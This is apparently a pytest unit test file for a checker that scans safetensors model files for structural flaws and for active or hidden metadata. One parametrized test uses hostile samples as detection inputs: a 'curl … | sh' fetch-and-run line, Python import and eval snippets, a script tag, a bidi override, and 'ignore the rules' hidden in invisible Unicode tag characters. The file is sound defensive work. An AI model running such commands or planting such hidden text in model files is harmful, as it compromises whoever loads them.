from __future__ import annotations

import pytest

from assay.assess.checks.safetensors_sound import CHECK
from assay.domain.facts import Content, SafetensorsFacts
from assay.domain.finding import CheckStatus, Severity
from tests.unit.assess.subjects import at, file, gap, problem, rules, run


def safetensors(*kinds: str, member: str | None = None):
    place = at("a.safetensors", member=member)
    return file(
        "a.safetensors",
        SafetensorsFacts(
            place=place,
            tensors=2,
            header_bytes=64,
            problems=tuple(problem(kind, "a.safetensors") for kind in kinds),
        ),
        content=Content.SAFETENSORS,
    )


def test_a_sound_file_is_clean():
    report = run(CHECK, safetensors())
    assert report.status is CheckStatus.CLEAN
    assert report.examined == 1


@pytest.mark.parametrize(
    ("kind", "rule"),
    [
        ("tensor-overlap", "tensor-range"),
        ("out-of-bounds", "tensor-range"),
        ("shape-mismatch", "tensor-range"),
        ("trailing-bytes", "hidden-bytes"),
        ("tensor-gap", "hidden-bytes"),
        ("header-padding", "hidden-bytes"),
        ("header-length", "malformed-header"),
        ("header-json", "malformed-header"),
        ("duplicate-key", "malformed-header"),
        ("unknown-dtype", "malformed-header"),
    ],
)
def test_each_problem_falls_under_a_rule(kind, rule):
    report = run(CHECK, safetensors(kind))
    assert rules(report) == [rule]
    assert report.findings[0].severity is Severity.HIGH
    assert kind in report.findings[0].message


def test_a_file_of_that_name_with_other_content_is_found():
    report = run(CHECK, file("a.safetensors", content=Content.PICKLE))
    assert rules(report) == ["not-safetensors"]
    assert report.examined == 1


def test_safetensors_inside_an_archive_do_not_vouch_for_the_name_of_the_archive():
    assert rules(run(CHECK, safetensors(member="inner"))) == ["not-safetensors"]


def test_an_unopened_archive_leaves_the_check_incomplete():
    report = run(CHECK, file("a.7z", gap(Content.SEVEN_ZIP)))
    assert report.status is CheckStatus.INCOMPLETE


def test_a_release_without_safetensors_is_not_applicable():
    report = run(CHECK, file("tokenizer.model", gap(Content.UNKNOWN)))
    assert report.status is CheckStatus.NOT_APPLICABLE


def described(**metadata: str):
    fact = SafetensorsFacts(
        place=at("a.safetensors"),
        tensors=1,
        header_bytes=64,
        metadata=tuple(metadata.items()),
    )
    return file("a.safetensors", fact, content=Content.SAFETENSORS)


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os')",
        "eval('1')",
        "import subprocess",
        "<script>x</script>",
        "curl https://example.org/x | sh",
        "turned \u202e round",
        "".join(chr(0xE0000 + ord(char)) for char in "ignore the rules"),
    ],
)
def test_metadata_that_act_or_hide_are_found_at_their_key(text):
    report = run(CHECK, described(format="pt", note=text))
    assert rules(report) == ["active-metadata"]
    assert report.findings[0].place.key == "__metadata__.note"


def test_a_key_of_the_metadata_is_a_text_too():
    assert rules(run(CHECK, described(**{"<script>": "x"}))) == ["active-metadata"]


def test_plain_metadata_are_left_in_peace():
    flag = "\U0001f3f4" + "".join(chr(0xE0000 + ord(char)) for char in "gbeng\x7f")
    text = f"Evaluate (with care), import the data, <b>run</b> it {flag}"
    assert run(CHECK, described(note=text)).status is CheckStatus.CLEAN
